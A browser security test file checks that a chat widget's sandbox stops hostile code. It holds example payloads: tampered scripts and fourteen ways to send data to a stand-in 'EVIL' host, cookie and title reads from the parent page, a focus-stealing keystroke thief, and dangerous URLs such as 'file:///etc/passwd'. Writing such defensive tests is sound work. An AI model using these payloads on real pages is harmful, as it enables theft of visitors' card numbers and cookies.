/**
 * The wall between chat and page. Each attack is first seen to succeed where nothing is in its way,
 * on a control, and then tried by a chat that the loader itself pinned: the worst case, in which the
 * vendor's own released code is hostile.
 */
import type { Browser, Page } from 'playwright';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../support/browser.ts';
import { LAB_SITE, type Lab, STUB_CHAT, startLoaderLab } from '../support/loader-lab.ts';
import { typeKeys } from '../support/typing.ts';

let browser: Browser;
let lab: Lab;

beforeAll(async () => {
  browser = await launchBrowser();
  lab = await startLoaderLab(browser);
});
afterEach(() => lab.leave());
afterAll(async () => {
  await lab.close();
  await browser.close();
});

const REFUSED = 'could not be loaded safely';
const openChat = (page: Page) => page.getByRole('button', { name: 'Open chat' }).click();
const stolenPaths = () => lab.stolen.map(({ path }) => path);
/** Long enough for an attack that works: each control needs less. */
const settle = (page: Page) => page.waitForTimeout(700);
/** A control may take as long as a busy machine needs. */
const PATIENCE = { timeout: 15_000 };
const arrives = (isThere: () => boolean) => expect.poll(isThere, PATIENCE).toBe(true);

/** A page with a frame as chat widgets usually have it: sandboxed or not, and nothing else. */
const controlFrame = (script: string, sandbox?: string) => ({
  bare: true,
  body: `<label>Card <input id="card" autocomplete="cc-number"></label><script>
    const frame = document.createElement('iframe');
    ${sandbox === undefined ? '' : `frame.setAttribute('sandbox', '${sandbox}');`}
    frame.srcdoc = '<body><textarea></textarea><script>' + ${JSON.stringify(script)} + '<' + '/script>';
    document.body.append(frame);</script>`,
});

describe('a script that was altered on its way', () => {
  const STEALS = 'fetch("EVIL/stolen?" + document.title)';
  const steals = () => STEALS.replace('EVIL', lab.evil);

  it('runs where it is embedded in the usual way', async () => {
    lab.options = { bare: true, body: `<script src="${lab.chat}/embed/9.9.9/chat.js"></script>` };
    lab.options = { ...lab.options, served: { chat: steals() } };
    await lab.visit();
    await arrives(() => stolenPaths().length === 1);
  });

  it('[REPORT-1] does not run as chat; the panel says so, and a report arrives', async () => {
    lab.options = { served: { chat: steals() } };
    const page = await lab.visit('/checkout?card=4242');
    await openChat(page);
    await page.getByText(REFUSED).waitFor();
    await expect
      .poll(() => lab.reports())
      .toEqual([
        {
          site: LAB_SITE,
          kind: 'script_refused',
          subject: 'chat.lab.js',
          release: '9.9.9',
          page: `${lab.shop}/checkout`,
        },
      ]);
    await settle(page);
    expect(stolenPaths()).toEqual([]);
    expect(await page.locator('#bulkhead iframe').count()).toBe(0);
  });

  it('comes back when the true script does', async () => {
    lab.options = { served: { chat: steals() } };
    const page = await lab.visit();
    await openChat(page);
    await page.getByText(REFUSED).waitFor();
    lab.options = {};
    await page.getByRole('button', { name: 'Try again' }).click();
    await lab.chatFrame(page).getByRole('textbox', { name: 'Message' }).waitFor();
  });

  it('does not run as loader', async () => {
    lab.options = { served: { loader: (code) => `${steals()};${code}` } };
    const page = await lab.visit();
    await settle(page);
    expect(stolenPaths()).toEqual([]);
    expect(await page.locator('#bulkhead').count()).toBe(0);
  });

  it('does not run as pay script', async () => {
    lab.options = {
      served: { pay: steals() },
      attributes: 'data-stripe-key="pk_test_lab"',
      chat: STUB_CHAT.replace(
        "port.postMessage({ verb: 'ready' })",
        `port.postMessage({ verb: 'pay', shown: { paymentId: 'pr_${'a'.repeat(16)}', amountMinor: 4900, currency: 'EUR', description: 'Lantern' } })`,
      ),
    };
    const page = await lab.visit();
    await openChat(page);
    await page.getByText(REFUSED).waitFor();
    await expect
      .poll(() => lab.reports())
      .toMatchObject([{ kind: 'script_refused', subject: 'pay.lab.js' }]);
    expect(stolenPaths()).toEqual([]);
  });

  it('is not reported when it is only out of reach', async () => {
    lab.options = {};
    const page = await lab.visit();
    await page.route('**/chat.lab.js', (route) => route.abort());
    await openChat(page);
    await page.getByText(REFUSED).waitFor();
    await settle(page);
    expect(lab.reports()).toEqual([]);
  });
});

describe('a frame that carries data away', () => {
  const WAYS: [way: string, code: string][] = [
    ['fetch', 'fetch("EVIL/leak?fetch")'],
    ['an image', 'new Image().src = "EVIL/leak?image"'],
    ['a beacon', 'navigator.sendBeacon("EVIL/leak?beacon", "1")'],
    ['a socket', 'new WebSocket("EVIL/leak?socket".replace("http", "ws"))'],
    [
      'a script',
      'document.body.append(Object.assign(document.createElement("script"), { src: "EVIL/leak?script" }))',
    ],
    [
      'a style sheet',
      'document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "EVIL/leak?style" }))',
    ],
    [
      'a hint',
      'document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "EVIL/leak?hint" }))',
    ],
    [
      'a frame',
      'document.body.append(Object.assign(document.createElement("iframe"), { src: "EVIL/leak?frame" }))',
    ],
    ['navigating itself', 'location.href = "EVIL/leak?location"'],
    [
      'a link',
      'Object.assign(document.body.appendChild(document.createElement("a")), { href: "EVIL/leak?link" }).click()',
    ],
    [
      'a download',
      'Object.assign(document.body.appendChild(document.createElement("a")), { href: "EVIL/leak?download", download: "a" }).click()',
    ],
    [
      'a refresh',
      'document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=EVIL/leak?refresh" }))',
    ],
    [
      'a form',
      'const form = document.body.appendChild(document.createElement("form")); form.action = "EVIL/leak?form"; form.submit()',
    ],
    ['a worker', 'new Worker(URL.createObjectURL(new Blob(["fetch(\'EVIL/leak?worker\')"])))'],
  ];
  const of = (code: string) => code.replaceAll('EVIL', lab.evil);

  it.each(WAYS)('by %s', async (_way, code) => {
    lab.options = controlFrame(of(code));
    await lab.visit();
    await arrives(() => lab.stolen.length > 0);

    lab.options = { chat: `${STUB_CHAT};try { ${of(code)} } catch {}` };
    const page = await lab.visit();
    await openChat(page);
    await settle(page);
    expect(stolenPaths()).toEqual([]);
  });
});

describe('a frame that reaches for the page', () => {
  it('reads and writes it where nothing parts them, and nothing behind the wall', async () => {
    const code =
      'try { parent.document.title = "owned " + parent.document.cookie } catch {} try { top.document.title = "owned" } catch {} try { localStorage.setItem("x", "1"); parent.document.title = "owned storage" } catch {}';
    lab.options = controlFrame(code);
    const control = await lab.visit();
    await expect.poll(() => control.title(), PATIENCE).toContain('owned');

    lab.options = { chat: `${STUB_CHAT};${code}` };
    const page = await lab.visit();
    await openChat(page);
    await settle(page);
    expect(await page.title()).toBe('Shop /');
    expect(await lab.inFrame(page, () => [origin, document.baseURI, document.referrer])).toEqual([
      'null',
      `${lab.chat}/`,
      '',
    ]);
  });

  it('moves the page elsewhere where it may, and not behind the wall', async () => {
    const code = `top.location.href = '${lab.evil}/moved'`;
    lab.options = controlFrame(code);
    const control = await lab.visit();
    await expect.poll(() => control.url(), PATIENCE).toContain('/moved');

    lab.options = { chat: `${STUB_CHAT};try { ${code} } catch {}` };
    const page = await lab.visit();
    await openChat(page);
    await settle(page);
    expect(page.url()).toBe(`${lab.shop}/`);
  });

  it('opens windows where it may, and not behind the wall', async () => {
    const code = `addEventListener('click', () => open('${lab.evil}/popup'))`;
    lab.options = controlFrame(code);
    const control = await lab.visit();
    await control.frameLocator('iframe').locator('textarea').click();
    await arrives(() => stolenPaths().includes('/popup'));

    lab.options = { chat: `${STUB_CHAT};${code}` };
    const page = await lab.visit();
    await openChat(page);
    await lab.chatFrame(page).getByRole('textbox').click();
    await settle(page);
    expect(stolenPaths()).toEqual([]);
    expect(page.context().pages()).toHaveLength(1);
  });

  it('[PORT-1] is removed when it loads a second time', async () => {
    lab.options = {
      chat: `${STUB_CHAT};setTimeout(() => { location.href = 'about:blank#' + Math.random(); location.reload(); }, 300)`,
    };
    const page = await lab.visit();
    await openChat(page);
    await page.getByText(REFUSED).waitFor();
    expect(lab.reports()).toMatchObject([{ kind: 'frame_navigated' }]);
    expect(await page.locator('#bulkhead iframe').count()).toBe(0);
  });

  it('[PORT-1] is removed when it says no hello', async () => {
    lab.options = { chat: '0' };
    const page = await lab.visit('/', {}, async (fresh) => {
      await fresh.clock.install();
    });
    await openChat(page);
    await page.locator('#bulkhead iframe').waitFor({ state: 'attached' });
    await settle(page);
    await page.clock.runFor(2_000); // The script from its address is tried, too.
    await settle(page);
    await page.clock.runFor(11_000);
    await page.getByText(REFUSED).waitFor();
    expect(lab.reports()).toMatchObject([{ kind: 'frame_silent' }]);
  });
});

describe('a frame that takes the focus', () => {
  const THIEF = `setInterval(() => { const field = document.querySelector('textarea'); window.focus(); field?.focus(); }, 100); addEventListener('input', () => fetch('/api/heard', { method: 'POST', body: document.querySelector('textarea').value }));`;
  const typeCard = async (page: Page) => {
    await page.locator('#card').click();
    await typeKeys(page, '4242424242424242', 60);
  };
  const body = '<label>Card <input id="card" autocomplete="cc-number"></label>';

  it('catches what is typed into the page where nothing stops it', async () => {
    lab.options = controlFrame(
      `setInterval(() => { window.focus(); document.querySelector('textarea').focus(); }, 100)`,
      'allow-scripts',
    );
    const page = await lab.visit();
    await typeCard(page);
    expect((await page.locator('#card').inputValue()).length).toBeLessThan(16);
  });

  it('is removed before it catches more than what is on its way, and is reported', async () => {
    lab.options = { body, chat: STUB_CHAT + THIEF };
    const page = await lab.visit();
    await openChat(page);
    await lab.chatFrame(page).getByRole('textbox').waitFor();
    await typeCard(page);
    expect((await page.locator('#card').inputValue()).length).toBeGreaterThanOrEqual(13);
    expect(await page.locator('#bulkhead iframe').count()).toBe(0);
    expect(lab.reports()).toMatchObject([{ kind: 'focus_theft' }]);
  });

  it('is removed as well while the panel is closed', async () => {
    lab.options = { body, chat: STUB_CHAT + THIEF };
    const page = await lab.visit();
    await openChat(page);
    await lab.chatFrame(page).getByRole('textbox').waitFor();
    await page.getByRole('button', { name: 'Close chat' }).click();
    await typeCard(page);
    expect((await page.locator('#card').inputValue()).length).toBeGreaterThanOrEqual(13);
    expect(await page.locator('#bulkhead iframe').count()).toBe(0);
  });

  it('leaves those alone who go to the chat themselves, by pointer or by Tab', async () => {
    lab.options = { body };
    const page = await lab.visit();
    await openChat(page);
    const field = lab.chatFrame(page).getByRole('textbox');
    await field.waitFor();
    await typeCard(page);
    // As a hand does: a driven pointer that jumps into a frame is not seen by the page around it.
    await page.getByRole('button', { name: 'Close chat' }).hover();
    await page.waitForTimeout(200);
    await field.click();
    await page.keyboard.type('by pointer');
    await typeCard(page);
    await page.keyboard.press('Tab'); // To the title bar's button.
    await page.keyboard.press('Tab'); // Into the frame, which is another process.
    await page.waitForTimeout(500);
    await page.keyboard.type(', by Tab', { delay: 30 });
    expect(await field.inputValue()).toBe('by pointer, by Tab');
    expect(lab.reports()).toEqual([]);
  });
});

describe('[PORT-3] a link', () => {
  const ask = (url: string) =>
    `addEventListener('click', () => parent.parent.postMessage({ bulkhead: 'open', url: ${JSON.stringify(url)} }, '*'))`;

  it('opens without an opener and without a referrer, for http and https', async () => {
    lab.options = { chat: STUB_CHAT + ask(`${lab.evil}/article`) };
    const page = await lab.visit();
    await openChat(page);
    const opened = page.context().waitForEvent('page');
    await lab.chatFrame(page).getByRole('textbox').click();
    const other = await opened;
    await other.waitForLoadState();
    expect(await other.evaluate(() => [opener, document.referrer])).toEqual([null, '']);
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,hi',
    'file:///etc/passwd',
    'blob:x',
    ' https://x',
    '//x',
  ])('does not open %s', async (url) => {
    lab.options = { chat: STUB_CHAT + ask(url) };
    const page = await lab.visit();
    await openChat(page);
    await lab.chatFrame(page).getByRole('textbox').click();
    await settle(page);
    expect(page.context().pages()).toHaveLength(1);
  });

  it('does not open for a chat that the visitor is not in, while they type into the page', async () => {
    lab.options = {
      // From when the visitor has left it: before that it would be the visitor's press that opens it.
      chat: `${STUB_CHAT};addEventListener('blur', () => setInterval(() => parent.parent.postMessage({ bulkhead: 'open', url: '${lab.evil}/article' }, '*'), 50))`,
    };
    const page = await lab.visit();
    await openChat(page);
    await lab.chatFrame(page).getByRole('textbox').waitFor();
    await page.locator('#search').click();
    const before = page.context().pages().length;
    await page.keyboard.type('4242424242', { delay: 40 });
    await settle(page);
    expect(page.context().pages()).toHaveLength(before);
    expect(await page.locator('#search').inputValue()).toBe('4242424242');
  });

  it('does not open without a gesture, nor for another frame', async () => {
    lab.options = {
      chat: `${STUB_CHAT};setTimeout(() => parent.parent.postMessage({ bulkhead: 'open', url: '${lab.evil}/article' }, '*'), 6000)`,
      body: `<iframe id="other" srcdoc="<button onclick=&quot;parent.postMessage({ bulkhead: 'open', url: '${lab.evil}/article' }, '*')&quot;>ask</button>"></iframe>`,
    };
    const page = await lab.visit();
    await openChat(page);
    await page.frameLocator('#other').getByRole('button').click();
    await page.waitForTimeout(6_500);
    expect(page.context().pages()).toHaveLength(1);
  });
});
